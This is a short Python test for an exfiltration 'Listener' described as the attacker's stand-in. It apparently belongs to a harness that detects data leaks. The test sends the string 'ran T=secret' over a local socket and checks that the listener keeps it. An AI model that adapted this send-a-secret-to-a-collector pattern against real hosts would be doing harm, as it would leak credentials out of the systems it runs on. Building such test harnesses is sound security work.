"""The attacker's stand-in keeps what a server sent even when the command returns before it was read."""

from __future__ import annotations

import socket
import threading
import time

from .exfil import Listener


def test_what_is_still_being_read_is_kept_before_it_is_counted() -> None:
    listener = Listener()
    try:
        sent = threading.Event()

        def send_then_linger() -> None:
            with socket.create_connection(("127.0.0.1", listener.port), timeout=5) as sock:
                sock.sendall(b"ran T=secret")
                sent.set()
                time.sleep(0.3)  # the report ends only when the peer closes, as a slow, loaded machine's does

        client = threading.Thread(target=send_then_linger)
        client.start()
        assert sent.wait(5)
        assert listener.received == ["ran T=secret"]
        client.join()
    finally:
        listener.shutdown()
        listener.server_close()
